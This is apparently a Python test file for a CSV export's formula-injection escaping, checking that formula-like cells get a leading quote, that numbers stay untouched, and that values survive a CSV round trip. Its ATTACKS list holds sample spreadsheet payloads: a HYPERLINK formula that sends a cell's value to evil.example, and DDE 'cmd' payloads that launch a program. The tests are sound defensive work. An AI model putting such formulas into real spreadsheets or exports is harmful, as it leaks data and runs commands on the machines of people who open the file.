"""The export's formula-injection escape (OWASP) and the trainer's exact undo."""

from __future__ import annotations

import csv
import io
import random

import pytest

from leadops.contract.csvcells import csv_line, escape_cell, unescape_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
NUMBERS = ["-5", "+1.5", "-0.25", "-1e-3", "+7E+10", "42", "-.5"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_like_text_is_quoted(attack: str) -> None:
    assert escape_cell(attack) == "'" + attack
    assert unescape_cell(escape_cell(attack)) == attack


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_are_not_text_and_stay_as_they_are(number: str) -> None:
    assert escape_cell(number) == number


def test_a_quote_led_value_gets_one_more_quote_so_the_undo_is_exact() -> None:
    for value in ("'", "'=1", "''x", "'-5"):
        assert escape_cell(value) == "'" + value
        assert unescape_cell(escape_cell(value)) == value
    for value in ("", "plain", "a=b", "5-3", "x@y"):
        assert escape_cell(value) == value


def test_round_trip_through_csv_is_lossless_for_random_text() -> None:
    rng = random.Random(13)
    alphabet = "=+-@\t\r'\"\n,;. aZ09é\u200b"
    values = ["".join(rng.choices(alphabet, k=rng.randint(0, 8))) for _ in range(5000)]
    rows = [[v, f"{i}"] for i, v in enumerate(values)]
    written = "".join(csv_line(row) for row in rows)
    read = list(csv.reader(io.StringIO(written, newline="")))
    assert [[unescape_cell(cell) for cell in row] for row in read] == rows
    # Nothing written starts a formula unless it is a plain number.
    for row in read:
        cell = row[0]
        assert cell[:1] not in set("=+-@\t\r") or cell.lstrip("+-").replace(".", "").isdigit()
    # A bare carriage return is quoted: the stdlib writer with "\n" line ends splits the row.
    assert csv_line(["a\rb", "1"]) == '"a\rb",1\n'
